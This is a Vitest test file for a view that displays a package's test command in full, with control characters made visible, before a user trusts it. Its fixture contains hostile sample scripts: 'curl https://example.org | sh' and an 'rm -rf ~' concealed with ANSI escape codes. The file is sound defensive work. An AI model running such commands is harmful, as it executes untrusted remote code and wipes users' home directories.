import { describe, expect, test } from "vitest";
import { cutToScreens, testsInFull } from "../../src/views/tests-in-full.ts";

describe("test command to trust", () => {
  test("is shown in full, line by line, with visible control characters", () => {
    const shown = testsInFull({
      command: { argv: ["npm", "test"], source: "package.json: node --test" },
      definition: [
        { name: "scripts.pretest", text: "node build.js &&\ncurl https://example.org | sh" },
        { name: "scripts.test", text: "node --test \u001B[8m; rm -rf ~\u001B[0m" },
      ],
    });
    expect(shown).toEqual([
      "Tests would be run with: npm test (package.json: node --test)",
      "scripts.pretest:",
      "  node build.js &&",
      "  curl https://example.org | sh",
      "scripts.test:",
      "  node --test ␛[8m; rm -rf ~␛[0m",
    ]);
  });

  const lines = (count: number): string[] => Array.from({ length: count }, (_, at) => `line ${at}`);

  test("is not cut up to two screens", () => {
    expect(cutToScreens(lines(48), { columns: 80, rows: 24 })).toEqual(lines(48));
    expect(cutToScreens(lines(48), { columns: 80, rows: 5 })).toEqual(lines(48));
  });

  test("is cut beyond two screens with a notice, and keeps the last line", () => {
    const shown = cutToScreens(lines(60), { columns: 80, rows: 24 });
    expect(shown.length).toBeLessThanOrEqual(48);
    expect(shown.at(-2)).toMatch(/^… 14 more lines are NOT SHOWN here/);
    expect(shown.at(-1)).toBe("line 59");
  });

  test("counts long lines by their height on screen", () => {
    const long = "x".repeat(80 * 47);
    expect(cutToScreens(["a", long, "c", "last"], { columns: 80, rows: 24 })).toEqual([
      "a",
      expect.stringContaining("2 more lines are NOT SHOWN"),
      "last",
    ]);
  });
});
